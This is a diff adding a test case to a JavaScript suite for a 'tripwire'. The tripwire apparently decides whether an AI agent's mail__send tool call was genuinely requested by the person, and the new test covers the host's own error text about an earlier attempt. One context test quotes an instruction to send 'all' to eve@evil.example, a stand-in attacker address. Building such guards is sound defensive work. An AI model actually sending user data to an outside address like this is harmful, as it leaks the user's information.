@@ -76,6 +76,12 @@ describe("the tripwire", () => {
     expect(judge(send, spoken)).toEqual({ kind: "clear" });
   });
 
+  it("does not take our own words about an earlier attempt for a request", () => {
+    const { judge } = wire("go");
+    const own = { ...said(`error: ${request} does not fit`), byHost: true };
+    expect(judge(send, [own])).toEqual({ kind: "clear" });
+  });
+
   it("lets pass what the person asked for in so many words", () => {
     const { judge } = wire(`Please do mail__send to eve@evil.example with "all".`);
     expect(judge(send, [said(request)])).toEqual({ kind: "clear" });
